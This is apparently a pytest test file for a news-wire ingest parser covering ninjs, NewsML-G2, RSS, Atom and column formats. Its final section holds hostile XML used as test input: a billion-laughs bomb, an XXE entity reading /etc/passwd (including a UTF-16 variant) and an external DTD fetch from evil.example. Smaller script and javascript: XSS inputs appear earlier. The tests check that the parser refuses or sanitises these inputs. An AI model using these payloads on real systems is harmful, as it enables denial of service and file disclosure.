import json
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest

from services.ingest.parsers import FORMATS, format_for_content_type, parse
from services.ingest.parsers.base import ItemError, MalformedPost, ParsedItem, Picture

DATA = Path(__file__).parent.parent / "data"
KYIV = ZoneInfo("Europe/Kyiv")


def read(relative: str) -> bytes:
    return (DATA / relative).read_bytes()


def parse_items(fmt: str, body: bytes, default_tz: Any = UTC) -> list[ParsedItem]:
    results = parse(fmt, body, default_tz=default_tz)
    assert all(isinstance(r, ParsedItem) for r in results), results
    return [r for r in results if isinstance(r, ParsedItem)]


def parse_one(fmt: str, body: bytes, default_tz: Any = UTC) -> ParsedItem:
    [item] = parse_items(fmt, body, default_tz)
    return item


def parse_error(fmt: str, body: bytes) -> ItemError:
    [error] = parse(fmt, body, default_tz=UTC)
    assert isinstance(error, ItemError), error
    return error


def malformed(fmt: str, body: bytes) -> MalformedPost:
    with pytest.raises(MalformedPost) as caught:
        parse(fmt, body, default_tz=UTC)
    return caught.value


# Content types


def test_formats() -> None:
    assert FORMATS == ("ninjs", "newsml-g2", "rss", "atom", "column")


@pytest.mark.parametrize(
    ("content_type", "expected"),
    [
        ("application/ninjs+json", "ninjs"),
        ("application/json", "ninjs"),
        ("application/json; charset=utf-8", "ninjs"),
        ("application/vnd.iptc.g2.newsitem+xml", "newsml-g2"),
        ("application/vnd.iptc.g2.newsmessage+xml", "newsml-g2"),
        ("Application/XML; charset=UTF-8", "newsml-g2"),
        ("application/rss+xml", "rss"),
        ("application/atom+xml;charset=utf-8", "atom"),
        ("application/vnd.newsroom.column+json", "column"),
        ("text/plain", None),
        ("image/png", None),
        (None, "rss"),
        ("", "rss"),
        ("  ; charset=utf-8", "rss"),
    ],
)
def test_format_for_content_type(content_type: str | None, expected: str | None) -> None:
    assert format_for_content_type(content_type, "rss") == expected


def test_missing_content_type_without_default_is_none() -> None:
    assert format_for_content_type(None, None) is None


def test_unknown_format_is_a_programming_error() -> None:
    with pytest.raises(ValueError, match="unknown wire format"):
        parse("nitf", b"<nitf/>", default_tz=UTC)


# ninjs 2.x: the IPTC documentation examples


def test_ninjs_2_simple_example() -> None:
    item = parse_one("ninjs", read("ninjs/001_simple_example.json"))
    assert item.guid == "http://ninjs.example.com/newsitems/20130709simp123"
    assert item.headline == "Captain of wrecked cruise ship on trial in Italy"
    assert item.byline == item.author_name == "Paulo Santalucia and Frances d'Emilio"
    assert item.version_created == datetime(2013, 7, 9, 10, 37, tzinfo=UTC)
    # A plain-text body without a content type is wrapped as one paragraph.
    assert item.body_html.startswith("<p>GROSSETO, Italy (AP) -- The trial")
    assert item.body_html.endswith("Schettino has denied wrongdoing.</p>")
    assert item.body_text.startswith("GROSSETO, Italy (AP)")
    assert item.pubstatus == "usable"
    assert item.version is None
    assert item.picture is None


def test_ninjs_2_prefers_the_html_body_over_plain_text() -> None:
    item = parse_one("ninjs", read("ninjs/005_complex_text_article.json"))
    assert item.language == "en"
    assert item.body_html.count("<p>") == 4
    assert item.body_html.startswith("<p>GROSSETO, Italy (AP) -- The trial")
    assert item.body_text.split("\n\n")[2] == (
        "His lawyer, Domenico Pepe, told reporters that, as expected, the judge was postponing"
        " the hearing due to an eight-day nationwide lawyers' strike."
    )


def test_ninjs_2_featured_picture_from_associations() -> None:
    item = parse_one("ninjs", read("ninjs/007_multimedia.json"))
    assert item.guid == "http://ninjs.example.com/newsitems/20130709cplx456"
    assert item.version_created == datetime(2013, 7, 9, 10, 39, tzinfo=UTC)
    assert item.picture == Picture(
        url="http://hosted.ap.org/photos/2/2643c588-dc8d-4923-bebd-e3b904edbb3a-big.jpg",
        media_type="image/jpg",
        width=429,
        height=281,
        size=None,
        caption=(
            "The Costa Concordia cruise ship lies on its side in the waters of the Tuscan island"
            " of Giglio, Italy, Monday, July 8, 2013. The luxury cruise ship ran aground off the"
            " coast of Tuscany on Jan 13, 2012, sending water pouring in through a 160-foot"
            " (50-meter) gash in the hull and forcing the evacuation of some 4,200 people from"
            " the listing vessel early."
        ),
        credit="Paulo Santalucia",
    )


def test_ninjs_2_string_version_and_picture_uri_without_rendition_links() -> None:
    item = parse_one("ninjs", read("ninjs/003_associations_example.json"))
    assert item.version == 1
    assert item.headline.startswith("Dell Redefines Workstation Computing Boundaries")
    # The "logo" association is a graphic; the "photo" one is the picture.
    assert item.picture == Picture(url="http://mms.businesswire.com/media/newsItemId/en/369394/3/0025lf.jpg")


def test_ninjs_items_without_headline_or_body_are_item_errors() -> None:
    assert parse_error("ninjs", read("ninjs/002_renditions_example.json")) == ItemError(
        position=0, reason="item has no headline", guid="renditions-example", field="headline"
    )
    assert parse_error("ninjs", read("ninjs/006_photo_only.json")) == ItemError(
        position=0,
        reason="item has no body",
        guid="http://ninjs.example.com/newsitems/20130709simpPh123",
        field="body",
    )


def test_ninjs_array_refuses_only_the_bad_items() -> None:
    entries = [
        json.loads(read("ninjs/004_simple_text_article.json")),
        json.loads(read("ninjs/006_photo_only.json")),
        {"headline": "No uri", "body_text": "Body"},
        "not an object",
        json.loads(read("ingest/ninjs-3.x.json")),
    ]
    results = parse("ninjs", json.dumps(entries).encode(), default_tz=UTC)
    assert [type(r).__name__ for r in results] == [
        "ParsedItem",
        "ItemError",
        "ItemError",
        "ItemError",
        "ParsedItem",
    ]
    assert results[2] == ItemError(position=2, reason="item has no uri", field="uri")
    assert results[3] == ItemError(position=3, reason="item is not a JSON object")
    assert isinstance(results[4], ParsedItem)
    assert results[4].guid == "urn:newsroom:test:ninjs3:orban"


# ninjs 1.x and 3.x


def test_ninjs_1_item() -> None:
    item = parse_one("ninjs", read("ingest/ninjs-1.x.json"), KYIV)
    assert item.guid == "urn:newsroom:test:ninjs1:kyiv-metro"
    assert item.headline == "Kyiv metro adds a new line"
    assert item.version == 3
    # versioncreated has no offset: read in the source's zone (Kyiv, UTC+3 in April).
    assert item.version_created == datetime(2025, 4, 9, 7, 52, tzinfo=UTC)
    assert item.first_created == datetime(2025, 4, 9, 6, 15, tzinfo=UTC)
    assert item.embargo_until == datetime(2025, 4, 9, 12, 0, tzinfo=UTC)
    assert item.lede == "The city council approved the plan on Wednesday."
    assert item.byline == item.author_name == "Olena Petrenko"
    assert item.language == "uk"
    assert item.section == "Kyiv"
    assert item.tags == ["Transport", "Infrastructure"]
    assert item.genre == "current"
    assert item.labels == []
    assert item.body_html == (
        "<p>The <b>new line</b> opens in 2030.</p>"
        '<p><a rel="noopener noreferrer">bad link</a> '
        '<a href="https://kyivcity.gov.ua/" rel="noopener noreferrer">council</a>'
        '<img src="https://example.org/x.png"></p>'
    )
    assert item.body_text == "The new line opens in 2030.\n\nbad link council"
    # The rendition named "original" wins over a larger one.
    assert item.picture == Picture(
        url="https://img.example.org/metro.jpg",
        media_type="image/jpeg",
        width=1200,
        height=800,
        size=250000,
        caption="A train at Khreshchatyk station",
        credit="Kyiv Metro",
    )


def test_ninjs_3_item() -> None:
    item = parse_one("ninjs", read("ingest/ninjs-3.x.json"))
    assert item.guid == "urn:newsroom:test:ninjs3:orban"
    assert item.headline == "Orbán becomes key amplifier of Russian psyops in Europe"
    assert item.version == 7
    assert item.version_created == datetime(2025, 7, 18, 14, 21, tzinfo=UTC)
    assert item.first_created == datetime(2025, 7, 18, 13, 0, tzinfo=UTC)
    assert item.embargo_until == datetime(2025, 7, 18, 15, 0, tzinfo=UTC)
    assert item.pubstatus == "canceled"
    assert item.lede == "The summary in plain text."
    assert item.body_html == "<p>First paragraph.</p><p>Second paragraph.</p>"
    assert item.body_text == "First paragraph.\n\nSecond paragraph."
    assert item.section == "Europe"
    assert item.tags == ["Hungary", "Propaganda"]
    assert item.genre == "opinion"
    assert item.labels == ["opinion"]
    # The largest rendition with an href; the text association is not a picture.
    assert item.picture == Picture(
        url="https://img.example.org/orban-large.webp",
        media_type="image/webp",
        width=1920,
        height=1200,
        size=400000,
        caption="Viktor Orbán in Budapest",
        credit="Jane Photographer",
    )


def test_ninjs_falls_back_to_first_subject_and_content_created() -> None:
    entry = {
        "uri": "u1",
        "headlines": [{"value": "H"}],
        "bodies": [{"value": "<p>B</p>"}],
        "subjects": [{"name": "Economy"}, {"name": "Banks"}],
        "contentcreated": "2025-01-15T12:00:00",
    }
    item = parse_one("ninjs", json.dumps(entry).encode(), KYIV)
    assert (item.section, item.tags) == ("Economy", ["Economy", "Banks"])
    assert item.first_created == datetime(2025, 1, 15, 10, 0, tzinfo=UTC)


@pytest.mark.parametrize(
    ("change", "reason", "field"),
    [
        ({"versioncreated": "soon"}, "unparseable time in versioncreated: 'soon'", "versioncreated"),
        (
            {"embargoed": "2025-02-30T10:00Z"},
            "unparseable time in embargoed: '2025-02-30T10:00Z'",
            "embargoed",
        ),
        ({"pubstatus": "draft"}, "unknown pubstatus 'draft'", "pubstatus"),
        ({"headlines": [{"value": "  "}]}, "item has no headline", "headline"),
        ({"bodies": [{"value": "<script>alert(1)</script>"}]}, "item has no body", "body"),
    ],
)
def test_ninjs_item_errors(change: dict[str, Any], reason: str, field: str) -> None:
    entry = {"uri": "u1", "headlines": [{"value": "H"}], "bodies": [{"value": "B"}]} | change
    assert parse_error("ninjs", json.dumps(entry).encode()) == ItemError(
        position=0, reason=reason, guid="u1", field=field
    )


def test_ninjs_cancelled_spelling_is_honoured() -> None:
    entry = {"uri": "u1", "headline": "H", "body_text": "B", "pubstatus": "cancelled"}
    assert parse_one("ninjs", json.dumps(entry).encode()).pubstatus == "canceled"


def test_ninjs_text_is_normalised() -> None:
    entry = {
        "uri": "u1",
        "headline": "Cafe\u0301\x00 \u00a0news\n",
        "body_text": "Line\x07 one\n\nLine two",
    }
    item = parse_one("ninjs", json.dumps(entry).encode())
    assert item.headline == "Café news"
    assert item.body_html == "<p>Line one</p><p>Line two</p>"


def test_json_that_is_not_an_object_is_an_item_error() -> None:
    assert parse_error("ninjs", b"42") == ItemError(position=0, reason="item is not a JSON object")


# NewsML-G2


def test_newsml_text_item_with_nitf_body() -> None:
    item = parse_one("newsml-g2", read("newsml-g2/LISTING_2_NewsML-G2_Text_Document.xml"))
    assert item.guid == "urn:newsml:acmenews.com:20161121:US-FINANCE-FED"
    assert item.version == 11
    assert item.headline == 'Fed to halt QE to avert "bubble"'
    assert item.version_created == datetime(2018, 11, 21, 21, 25, 32, tzinfo=UTC)
    assert item.first_created == datetime(2016, 11, 21, 20, 21, 6, tzinfo=UTC)
    assert item.byline == item.author_name == "Meredith Jameson"
    assert item.language == "en-US"
    assert item.section == "economy, business and finance"
    assert item.tags == ["economy, business and finance", "central bank", "money and monetary policy"]
    assert item.pubstatus == "usable"
    assert item.body_html.startswith("<p>(New York, NY - October 21) Et, sent luptat luptat")
    assert item.body_html.count("<p>") == 2
    assert item.body_text.startswith(
        "(New York, NY - October 21) Et, sent luptat luptat, commy Nim zzriureet vendreetue modo"
    )
    assert item.body_text.endswith("esto cons dolutpat, si.")


def test_newsml_items_without_body_are_item_errors() -> None:
    assert parse_error("newsml-g2", read("newsml-g2/LISTING_1_A_NewsML-G2_News_Item.xml")) == (
        ItemError(
            position=0,
            reason="item has no body",
            guid="urn:newsml:acmenews.com:20161018:US-FINANCE-FED",
            field="body",
        )
    )
    package = parse_error("newsml-g2", read("newsml-g2/LISTING_6_Simple_NewsML-G2_Package.xml"))
    assert (package.guid, package.reason) == (
        "tag:example.com,2008:UK-NEWS-TOPTEN:UK20081220098658",
        "item has no body",
    )


def newsml_message() -> list[ParsedItem | ItemError]:
    return parse("newsml-g2", read("ingest/newsml-message.xml"), default_tz=KYIV)


def test_newsml_message_yields_each_text_item_and_refuses_only_bad_ones() -> None:
    results = newsml_message()
    assert [(type(r).__name__, r.guid) for r in results] == [
        ("ParsedItem", "urn:newsml:example.org:20250718:pokrovsk"),
        ("ParsedItem", "urn:newsml:example.org:20250718:orban"),
        ("ParsedItem", "urn:newsml:example.org:20250718:ramstein"),
        ("ItemError", "urn:newsml:example.org:20250718:no-headline"),
        ("ItemError", "urn:newsml:example.org:20250718:bad-time"),
    ]
    # Positions count every member of the itemSet, the picture item included.
    assert results[3] == ItemError(
        position=4,
        reason="item has no headline",
        guid="urn:newsml:example.org:20250718:no-headline",
        field="headline",
    )
    assert results[4] == ItemError(
        position=5,
        reason="unparseable time in versionCreated: 'yesterday at noon'",
        guid="urn:newsml:example.org:20250718:bad-time",
        field="versionCreated",
    )


def test_newsml_nitf_item_with_linked_picture() -> None:
    item = newsml_message()[0]
    assert isinstance(item, ParsedItem)
    assert item.version == 4
    assert item.headline == ("Ukrainian reconnaissance tracks new Russian assault methods near Pokrovsk")
    assert item.lede == "Drones record small assault groups on motorcycles."
    assert item.byline == "Ivan Shevchenko, Maria Kovalenko"
    assert item.author_name == "Ivan Shevchenko"
    assert item.language == "en"
    assert item.section == "War"
    assert item.tags == ["conflict, war and peace", "armed conflict"]
    assert (item.genre, item.labels) == ("current", [])
    assert item.version_created == datetime(2025, 7, 18, 16, 16, tzinfo=UTC)
    assert item.first_created == datetime(2025, 7, 18, 15, 0, tzinfo=UTC)
    assert " ".join(item.body_html.split()) == (
        "<p>Ukrainian scouts describe <em>new</em> tactics.</p> <h2>What changed</h2>"
        " <p>Groups of two or three soldiers<br>move at dawn.</p>"
        " <blockquote><p>We see them coming.</p></blockquote> <p></p>"
    )
    assert item.body_text == (
        "Ukrainian scouts describe new tactics.\n\nWhat changed\n\n"
        "Groups of two or three soldiers\nmove at dawn.\n\nWe see them coming."
    )
    assert item.picture == Picture(
        url="https://img.example.org/pokrovsk.jpg",
        media_type="image/jpeg",
        width=1920,
        height=1080,
        size=350000,
        caption="A drone image of the front line near Pokrovsk.",
        credit="Photo: General Staff of the AFU",
    )


def test_newsml_xhtml_opinion_item_canceled_with_naive_time() -> None:
    item = newsml_message()[1]
    assert isinstance(item, ParsedItem)
    assert " ".join(item.body_html.split()) == (
        '<p>Budapest repeats <a href="https://example.org/kremlin" rel="noopener noreferrer">'
        "Kremlin</a> lines.</p> <p>Second paragraph.</p>"
    )
    assert (item.genre, item.labels) == ("opinion", ["opinion"])
    assert item.language == "en-GB"
    assert item.pubstatus == "canceled"
    assert item.embargo_until == datetime(2025, 7, 18, 18, 0, tzinfo=UTC)
    # 17:21 without an offset, read in Kyiv (UTC+3 in July).
    assert item.version_created == datetime(2025, 7, 18, 14, 21, tzinfo=UTC)
    assert item.picture is None  # two text items and one picture: no guessing


def test_newsml_inline_data_and_open_embargo() -> None:
    item = newsml_message()[2]
    assert isinstance(item, ParsedItem)
    assert item.body_html == (
        "<p>The meeting will be held online.</p><p>NATO and U.S. officials will take part &amp; speak.</p>"
    )
    assert item.version is None
    # <embargoed/> with no time: embargoed until a later version says when.
    assert item.pubstatus == "withheld"
    assert item.embargo_until is None


PACKAGE_MESSAGE = b"""<?xml version="1.0" encoding="UTF-8"?>
<newsMessage xmlns="http://iptc.org/std/nar/2006-10-01/">
  <itemSet>
    <packageItem guid="pkg-1" version="1">
      <groupSet root="G1">
        <group id="G1" role="group:main">
          <itemRef residref="photo-1"/>
          <itemRef residref="text-1"/>
        </group>
      </groupSet>
    </packageItem>
    <newsItem guid="text-1" version="2">
      <itemMeta><itemClass qcode="ninat:text"/><pubStatus qcode="stat:withheld"/></itemMeta>
      <contentMeta><headline>Text</headline></contentMeta>
      <contentSet><inlineData contenttype="text/html">&lt;p&gt;Body&lt;/p&gt;</inlineData></contentSet>
    </newsItem>
    <newsItem guid="text-2">
      <itemMeta><itemClass qcode="ninat:text"/></itemMeta>
      <contentMeta><headline>Other</headline></contentMeta>
      <contentSet><inlineData>Other body</inlineData></contentSet>
    </newsItem>
    <newsItem guid="photo-1">
      <contentMeta><headline>Photo headline</headline></contentMeta>
      <contentSet>
        <remoteContent href="https://img.example.org/p.jpg" contenttype="image/jpeg"/>
      </contentSet>
    </newsItem>
  </itemSet>
</newsMessage>"""


def test_newsml_package_links_a_picture_to_its_text_item() -> None:
    text, other = parse_items("newsml-g2", PACKAGE_MESSAGE)
    assert (text.guid, text.pubstatus, text.body_html) == ("text-1", "withheld", "<p>Body</p>")
    assert text.picture == Picture(
        url="https://img.example.org/p.jpg", media_type="image/jpeg", caption="Photo headline"
    )
    assert (other.guid, other.picture) == ("text-2", None)


def test_newsml_item_without_guid() -> None:
    body = b'<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/"><contentMeta/></newsItem>'
    assert parse_error("newsml-g2", body) == ItemError(position=0, reason="item has no guid", field="guid")


# RSS and Atom


def test_rss_feed() -> None:
    results = parse("rss", read("ingest/rss.xml"), default_tz=KYIV)
    first, second, no_title, no_guid = results
    assert isinstance(first, ParsedItem)
    assert first.guid == "wire-2025-07-18-kinburn"
    assert first.headline == "Ukrainian flag raised on Kinburn Spit, in Black Sea"
    assert first.body_html == (
        "<p>Special forces <strong>landed</strong> on the spit.</p>"
        '<p><img src="https://img.example.org/inline.jpg" alt="flag"></p>'
    )
    assert first.body_text == "Special forces landed on the spit."
    assert first.lede == "Special forces landed on the spit at dawn."
    assert first.first_created == datetime(2025, 7, 18, 15, 54, tzinfo=UTC)
    assert first.version_created == datetime(2025, 7, 18, 16, 10, tzinfo=UTC)
    assert first.version is None
    assert first.byline == first.author_name == "Oksana Bondar"
    assert (first.section, first.tags) == ("War", ["Black Sea", "Navy"])
    assert first.language == "en-us"
    assert first.source_url == "https://wire.example.org/2025/07/18/kinburn"
    # The largest media:content wins over the enclosure; caption and credit from its group.
    assert first.picture == Picture(
        url="https://img.example.org/kinburn-large.jpg",
        media_type="image/jpeg",
        width=1600,
        height=900,
        size=240000,
        caption="The flag over Kinburn Spit",
        credit="Navy of Ukraine",
    )

    assert isinstance(second, ParsedItem)
    assert second.guid == "https://wire.example.org/2025/07/18/nato"  # no guid: the link
    assert second.body_html == '<p>Eight countries joined. <a rel="noopener noreferrer">x</a></p>'
    assert second.lede is None  # the description is the body
    assert second.byline == "Andrii Melnyk"
    assert second.first_created == datetime(2025, 7, 18, 18, 30, tzinfo=UTC)
    assert second.version_created is None
    # The audio enclosure is skipped; the image one is the picture.
    assert second.picture == Picture(
        url="https://img.example.org/nato.png", media_type="image/png", size=51200
    )

    assert no_title == ItemError(
        position=2, reason="item has no headline", guid="wire-no-title", field="headline"
    )
    assert no_guid == ItemError(position=3, reason="item has no guid or link", field="guid")


def test_atom_feed() -> None:
    first, second, third = parse_items("atom", read("ingest/atom.xml"), KYIV)
    assert first.guid == "tag:wire.example.org,2025:tomahawks"
    assert first.headline == "Tomahawks could be game-changer for Ukraine"
    assert " ".join(first.body_html.split()) == (
        '<p>Washington <em>weighs</em> sending missiles.</p> <p><a rel="noopener noreferrer">click</a></p>'
    )
    assert first.lede == "Washington weighs sending long-range missiles."
    assert first.first_created == datetime(2025, 7, 18, 14, 45, tzinfo=UTC)
    assert first.version_created == datetime(2025, 7, 18, 15, 5, tzinfo=UTC)
    assert first.byline == "Taras Hrytsenko"
    assert (first.section, first.tags) == ("World", ["USA", "weapons"])
    assert first.language == "uk"
    assert first.source_url == "https://wire.example.org/tomahawks"
    assert first.picture == Picture(
        url="https://img.example.org/tomahawk.jpg", media_type="image/jpeg", size=123456
    )

    assert second.body_html == (
        "<p>Hackers hit the network.</p><p>Gazprom has not commented &amp; stays silent.</p>"
    )
    assert second.byline == "Atom Desk"  # the feed's author
    assert second.first_created == second.version_created == datetime(2025, 7, 18, 14, 0, tzinfo=UTC)

    assert third.body_html == "<p>Sanctions <b>announced</b>.</p>"
    assert third.version_created == datetime(2025, 7, 18, 10, 0, tzinfo=UTC)


def test_atom_entry_document_and_dispatch_by_root_element() -> None:
    entry = b"""<entry xmlns="http://www.w3.org/2005/Atom">
      <id>urn:uuid:1</id><title>Single</title><updated>2025-07-18T14:00:00Z</updated>
      <content type="html">&lt;p&gt;One&lt;/p&gt;</content></entry>"""
    # Posted as application/xml (newsml-g2): the root element decides the parser.
    item = parse_one("newsml-g2", entry)
    assert (item.guid, item.headline, item.body_html) == ("urn:uuid:1", "Single", "<p>One</p>")


def test_xml_of_another_kind_is_malformed() -> None:
    assert malformed("rss", b"<html><body/></html>").reason == "<html> is not a rss document"


# Column


def test_column() -> None:
    item = parse_one("column", read("ingest/column-portnikov.json"), KYIV)
    assert item.guid == "columns/2025-04-09/portnikov-chinese-citizens"
    assert item.version == 1
    assert item.headline == "Chinese citizens are fighting for Russia — Vitaly Portnikov's column"
    assert item.lede == (
        "Ukrainian forces have captured two Chinese nationals who were fighting for the Russian"
        " army in the Donetsk region"
    )
    assert item.body_html.startswith("<p>The President of Ukraine confirmed this")
    assert item.body_text.count("\n\n") == 1
    assert item.byline == item.author_name == "Vitaly Portnikov"
    assert item.author_bio == "journalist, National Shevchenko Prize laureate"
    assert item.section == "opinion"
    assert item.tags == ["China", "Russia", "Ukraine"]
    assert item.labels == ["opinion"]
    assert item.genre == "opinion"
    assert item.language == "en"
    assert item.source_url == "https://example.org/original"
    assert item.disclaimer == (
        "The editorial staff does not always share the opinions expressed by the blog authors."
    )
    assert item.first_created == item.version_created == datetime(2025, 4, 9, 7, 52, tzinfo=UTC)


def test_column_defaults_section_and_labels_opinion() -> None:
    column = {
        "guid": "c1",
        "headline": "H",
        "body_html": "<p>B</p>",
        "author": {"name": "A"},
        "section": "",
        "source_url": "javascript:alert(1)",
    }
    item = parse_one("column", json.dumps(column).encode())
    assert (item.section, item.labels, item.genre) == ("opinion", ["opinion"], "opinion")
    assert item.source_url is None
    assert item.version is None
    assert item.first_created is None


@pytest.mark.parametrize("field", ["guid", "headline", "body_html", "author.name"])
def test_column_missing_required_field(field: str) -> None:
    column = json.loads(read("ingest/column-portnikov.json"))
    if field == "author.name":
        del column["author"]["name"]
    else:
        del column[field]
    error = parse_error("column", json.dumps(column).encode())
    assert (error.reason, error.field) == (f"column has no {field}", field)
    expected_guid = None if field == "guid" else "columns/2025-04-09/portnikov-chinese-citizens"
    assert error.guid == expected_guid


def test_column_bad_written_at() -> None:
    column = json.loads(read("ingest/column-portnikov.json")) | {"written_at": "9 April"}
    error = parse_error("column", json.dumps(column).encode())
    assert (error.field, error.reason) == ("written_at", "unparseable time in written_at: '9 April'")


# Malformed posts and hostile XML


def test_invalid_utf8_json_reports_the_byte_position() -> None:
    error = malformed("ninjs", b'{"uri": "x",\n "headline": "caf\xe9"}')
    assert (error.reason, error.line, error.column) == ("invalid UTF-8 at byte 30", 2, 18)


def test_invalid_utf8_xml_reports_the_byte_position() -> None:
    error = malformed("rss", b"<rss><channel><title>caf\xe9</title></channel></rss>")
    assert (error.reason, error.line, error.column) == ("invalid UTF-8 at byte 24", 1, 25)


def test_declared_legacy_xml_encoding_is_honoured() -> None:
    body = (
        '<?xml version="1.0" encoding="ISO-8859-1"?><rss version="2.0"><channel><item>'
        "<guid>g</guid><title>Café</title><description>Body</description></item></channel></rss>"
    ).encode("latin-1")
    assert parse_one("rss", body).headline == "Café"


def test_malformed_json_reports_line_and_column() -> None:
    error = malformed("ninjs", b'{\n  "uri": "x",\n  "headline" "y"\n}')
    assert (error.reason, error.line, error.column) == ("Expecting ':' delimiter", 3, 14)
    assert str(error) == "Expecting ':' delimiter (line 3, column 14)"
    assert malformed("column", b"").reason == "Expecting value"


def test_malformed_xml_reports_lxml_message_line_and_column() -> None:
    error = malformed("newsml-g2", b"<newsItem>\n  <headline>x</newsItem>")
    assert error.reason == "Opening and ending tag mismatch: headline line 2 and newsItem"
    assert (error.line, error.column) == (2, 25)
    assert malformed("atom", b"").reason == "Document is empty"


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/" guid="bomb">
  <contentMeta><headline>&lol4;</headline></contentMeta>
</newsItem>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rss version="2.0"><channel><item><guid>g</guid><title>&xxe;</title>
<description>&xxe;</description></item></channel></rss>"""

EXTERNAL_ENTITY_UTF16 = (
    EXTERNAL_ENTITY.replace(b'"1.0"?>', b'"1.0" encoding="UTF-16"?>', 1).decode().encode("utf-16")
)


@pytest.mark.parametrize(
    ("fmt", "body"),
    [
        ("newsml-g2", BILLION_LAUGHS),
        ("rss", EXTERNAL_ENTITY),
        ("atom", b'<!DOCTYPE f [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><f/>'),
        # UTF-16 hides the declaration from a byte search; the parsed DTD still shows it.
        ("rss", EXTERNAL_ENTITY_UTF16),
    ],
)
def test_entity_declarations_are_refused(fmt: str, body: bytes) -> None:
    assert malformed(fmt, body).reason == "XML entity declarations are not allowed"


def test_a_doctype_without_entities_is_accepted_and_never_fetched() -> None:
    body = (
        b'<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"'
        b' "http://my.netscape.com/publish/formats/rss-0.91.dtd">'
        b"<rss><channel><item><link>https://e.example/1</link><title>T</title>"
        b"<description>D</description></item></channel></rss>"
    )
    assert parse_one("rss", body).guid == "https://e.example/1"


def test_undeclared_entities_are_malformed() -> None:
    error = malformed("rss", b"<rss><channel><title>&nbsp;</title></channel></rss>")
    assert error.reason == "Entity 'nbsp' not defined"
